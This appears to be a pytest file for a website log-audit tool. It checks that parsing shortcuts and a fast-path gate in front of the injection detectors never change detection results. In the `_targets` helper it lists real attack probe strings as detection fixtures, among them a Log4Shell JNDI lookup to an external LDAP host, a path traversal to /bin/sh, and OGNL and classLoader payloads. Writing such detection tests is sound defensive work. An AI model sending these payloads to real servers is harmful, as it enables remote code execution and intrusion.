"""The audit's speed devices must never change a result: the loose/strict line expressions,
the plain-part shortcut in front of the injection detectors, and the C-level row selection."""

import json
import os
import random
import re
import sys

from ansible_collections.sitekeeper.website.plugins.module_utils.audit import waf
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.detections import Classifier
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.formats import _STRICT, CombinedParser
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.parser import audit

HERE = os.path.dirname(os.path.abspath(__file__))
DATA = os.path.join(HERE, "..", "..", "data", "audit")
sys.path.insert(0, os.path.join(HERE, "..", "..", "..", "benchmarks"))

OK = b'192.0.2.1 - - [27/Nov/2026:10:00:00 +0700] "GET /berita HTTP/1.1" 200 512 "-" "Mozilla/5.0 (X11)"\n'


def strict_rows(data):
    """What the strict expression alone gives (the reference)."""
    parser = CombinedParser()
    parser.loose = _STRICT
    return parser.parse_chunk(data)


def test_truncated_line_cannot_swallow_the_next_one():
    # The first line stops inside the agent field: the loose expression would run on into the next line.
    data = (b'198.51.100.9 - - [27/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0 (trunc\n'
            + OK + OK)
    rows, bad = CombinedParser().parse_chunk(data)
    ok = [r for r in rows if r[0] == b"192.0.2.1"]
    assert len(ok) == 2 and all(r[7] == b"Mozilla/5.0 (X11)" for r in ok)
    assert len(rows) + len(bad) == 3  # the cut line is its own (leniently parsed) line
    assert (rows, bad) == strict_rows(data)


def test_empty_lines_crlf_trailing_fields_and_no_final_newline():
    data = (b"\n\n" + OK + b"\n" + OK.replace(b"\n", b"\r\n")
            + OK.replace(b'"\n', b'" "203.0.113.5" 0.012\n') + OK.rstrip(b"\n"))
    rows, bad = CombinedParser().parse_chunk(data)
    assert bad == [] and len(rows) == 4
    assert all(r[7] == b"Mozilla/5.0 (X11)" for r in rows)


def test_loose_and_strict_agree_on_messy_input():
    rng = random.Random(7)
    pieces = [OK, b"junk without structure\n", b'1.2.3.4 - - [27/Nov/2026:10:00:00 +0700] "GET /a\\"b HTTP/1.1" '
              b'200 5 "-" "x"\n', b"\xff\xfe\n", b'1.2.3.4 - - [bad time] "GET / HTTP/1.1" 200 5 "-" "x"\n',
              b'2001:db8::1 - - [27/Nov/2026:10:00:00 +0700] "GET / HTTP/2.0" 200 5 "" ""\n',
              b'1.2.3.4 - - [27/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 5 "-" "cut', b"\n", b" \n"]
    for _ in range(300):
        data = b"".join(rng.choice(pieces) for _ in range(rng.randrange(1, 12)))
        if not data.endswith(b"\n"):
            data += b"\n"
        assert CombinedParser().parse_chunk(data) == strict_rows(data), data


def _targets():
    """Every request target of the labelled CrowdSec lines, the generator's attacks and the signature tests."""
    import audit_gen

    found = set(audit_gen.ATTACKS)
    with open(os.path.join(DATA, "crowdsec_dev.jsonl"), encoding="utf-8") as handle:
        for raw in handle:
            parts = json.loads(raw)["raw"].split('"')
            if len(parts) > 2:
                found.add(parts[1].split(" ")[1] if " " in parts[1] else parts[1])
    found.update(["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?x=${jndi:ldap://198.51.100.7/a}",
                  "/cgi-bin/.%2e/.%2e/bin/sh", "/remote/fgt_lang?lang=/../../../..//////////dev/",
                  "/_ignition/execute-solution", "/actuator/env", "/HNAP1/", "/boaform/admin/formLogin",
                  "/sap/bc/gui/sap/its/webgui", "/nwa", "/crx/packmgr/index.jsp", "/owa/auth/x.js",
                  "/manager/html", "/wp-content/plugins/revslider/readme.txt", "/phpmyadmin/index.php",
                  "/+CSCOE+/logon.html", "/dana-na/auth/url_default/welcome.cgi", "/?XDEBUG_SESSION_START=phpstorm",
                  "/phpinfo.php", "/index.php?%{(#_memberAccess)}", "/?class.module.classLoader.URLs[0]=0"])
    return sorted(t for t in found if t)


def test_fast_paths_never_hide_a_detection(monkeypatch):
    """Plain parts skip the injection detectors; without that shortcut the verdicts must be the same."""
    gated = Classifier()
    targets = _targets()
    assert len(targets) > 100
    before = {}
    for target in targets:
        for method in ("GET", "POST"):
            request = ("%s %s HTTP/1.1" % (method, target)).encode("utf-8", "surrogateescape")
            before[request] = gated.classify(request)
    monkeypatch.setattr(waf, "_PLAIN", re.compile(r"(?!)"))
    ungated = Classifier()
    fired = 0
    for request, verdict in before.items():
        assert ungated.classify(request) == verdict, request
        fired += bool(verdict[0])
    assert fired > 100


def test_chunk_size_does_not_change_the_result(tmp_path):
    import audit_gen

    path = str(tmp_path / "gen.log")
    audit_gen.generate(path, 20000, seed=3)
    small = audit([path], chunk_size=4096)
    large = audit([path])
    key = lambda r: sorted((i["client"], tuple(i["detections"]), i["count"]) for i in r["incidents"])  # noqa: E731
    assert small["summary"]["requests"] == large["summary"]["requests"] == 20000
    assert key(small) == key(large) and small["summary"]["top_pages"] == large["summary"]["top_pages"]
    assert small["summary"]["automated_requests"] == large["summary"]["automated_requests"]
